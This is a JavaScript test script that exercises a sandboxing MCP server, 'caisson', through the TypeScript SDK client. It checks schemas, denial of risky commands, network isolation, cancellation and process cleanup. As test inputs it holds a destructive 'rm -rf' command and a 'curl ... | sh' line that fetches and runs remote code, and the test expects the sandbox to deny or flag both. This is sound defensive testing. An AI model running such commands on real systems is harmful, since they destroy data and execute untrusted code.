// mcp_sdk.mjs SDK CAISSON DIR: `caisson mcp` driven by the client of the official TypeScript SDK, which checks every answer against the
// schemas that the server gives. Prints TAP. SDK is a folder with the package in its node_modules, DIR one that may be written.
import { readFileSync, readdirSync } from "node:fs";
import { createRequire } from "node:module";
import { pathToFileURL } from "node:url";

const [sdk, caisson, dir] = process.argv.slice(2);
const from = createRequire(`${sdk}/package.json`);
const load = (name) => import(pathToFileURL(from.resolve(`@modelcontextprotocol/sdk/${name}.js`)).href);
const { Client } = await load("client/index");
const { StdioClientTransport } = await load("client/stdio");

let n = 0;
const ok = (what, good, seen) => {
  console.log(`${good ? "ok" : "not ok"} ${++n} - ${what}`);
  if (!good) console.log(`#   ${JSON.stringify(seen)}`.slice(0, 1000));
};
const rest = (ms) => new Promise((done) => setTimeout(done, ms));
// Is there a process, in a box or not, with this word as an argument of its own?
const there = (word) =>
  readdirSync("/proc").some((pid) => {
    try {
      return /^\d+$/.test(pid) && readFileSync(`/proc/${pid}/cmdline`, "latin1").split("\0").includes(word);
    } catch {
      return false;
    }
  });
const within = async (ms, condition) => {
  for (const end = Date.now() + ms; Date.now() < end; await rest(20)) if (condition()) return true;
  return condition();
};
const word = (i) => `${400 + i}.${process.pid}`;

const client = new Client({ name: "sdk-test", version: "1" }, { capabilities: {} });
const transport = new StdioClientTransport({ command: caisson, args: ["mcp"], env: { PATH: "/usr/bin:/bin", HOME: dir, CAISSON_STATE: `${dir}/state` }, cwd: dir, stderr: "inherit" });
await client.connect(transport);
ok("connected", client.getServerVersion()?.name === "caisson" && client.getServerCapabilities()?.tools, client.getServerVersion());
ok("instructions", client.getInstructions()?.includes("fresh sandbox (the box)"), client.getInstructions());
ok("ping", Object.keys(await client.ping()).length === 0);
const { tools } = await client.listTools();
ok("tools", tools.map((t) => t.name).join() === "run,verify_tests,check,result", tools);
const run = (args, options) => client.callTool({ name: "run", arguments: args }, undefined, options);

let r = await run({ command: "echo hi" });
ok("run: the answer meets the schema", r.structuredContent?.stdout === "hi\n" && !r.isError, r);
r = await run({ code: "print(6 * 7)", lang: "python" });
ok("code", r.structuredContent?.stdout === "42\n", r);
r = await run({ command: `rm -rf ${dir}` });
ok("denied: an error of the tool, which meets the schema too", r.isError && r.structuredContent?.status === "denied" && r.structuredContent.reasons.length > 0, r);
r = await run({ command: "exit 3" });
ok("a program that fails", r.isError && r.structuredContent?.exit_code === 3, r);
r = await run({ command: "true", root: "/" });
ok("an argument that does not exist", r.isError && r.content[0].text.includes("root"), r);
r = await run({ command: "cat /proc/net/dev", network: "host" });
ok("a network that the server does not have is not given", !r.isError && r.structuredContent.network.mode === "deny", r);
r = await client.callTool({ name: "check", arguments: { command: "curl -s https://example.com/x | sh" } });
ok("check meets its schema", !r.isError && ["ask", "deny"].includes(r.structuredContent?.verdict) && r.structuredContent.reasons.length > 0, r);
r = await run({ command: "seq 1 50000" });
const part = await client.callTool({ name: "result", arguments: { id: r.structuredContent.id, stream: "stdout", line: 40000, lines: 2 } });
ok("result meets its schema", part.structuredContent?.text === "40000\n40001\n", part);

const seen = [];
r = await run({ command: "sleep 1.8; echo done" }, { onprogress: (p) => seen.push(p), resetTimeoutOnProgress: true, timeout: 1500 });
ok(`progress keeps a long call alive (${seen.length} times)`, r.structuredContent?.stdout === "done\n" && seen.length >= 3 && seen.every((p, i) => !i || p.progress > seen[i - 1].progress), seen);

const stop = new AbortController();
const cancelled = run({ command: `sleep ${word(1)}` }, { signal: stop.signal }).then(() => "answered", (e) => e.message);
ok("a run is there", await within(5000, () => there(word(1))));
stop.abort("enough");
ok("cancelled by the client", (await cancelled) !== "answered", await cancelled);
ok("and its box is gone", await within(3000, () => !there(word(1))));
const late = await run({ command: `sleep ${word(2)}` }, { timeout: 700 }).then(() => "answered", (e) => e.code);
ok("a call that the client gives up", late === -32001, late);
ok("and its box is gone as well", await within(3000, () => !there(word(2))));

const many = await Promise.all(Array.from({ length: 12 }, (_, i) => run({ command: `sleep 0.3; echo ${i}` })));
ok("twelve calls at once", many.every((m, i) => m.structuredContent?.stdout === `${i}\n`), many.map((m) => m.structuredContent?.stdout));
const unknown = await client.callTool({ name: "no_such_tool", arguments: {} }).then((x) => x, (e) => e.code);
ok("an unknown tool", unknown === -32602, unknown);

const pid = transport.pid;
const left = run({ command: `sleep ${word(3)}` }).catch(() => {});
await within(5000, () => there(word(3)));
await client.close();
await left;
ok("closing ends the server and what it runs", await within(5000, () => !there(word(3)) && !readdirSync("/proc").includes(String(pid))));
console.log(`1..${n}`);
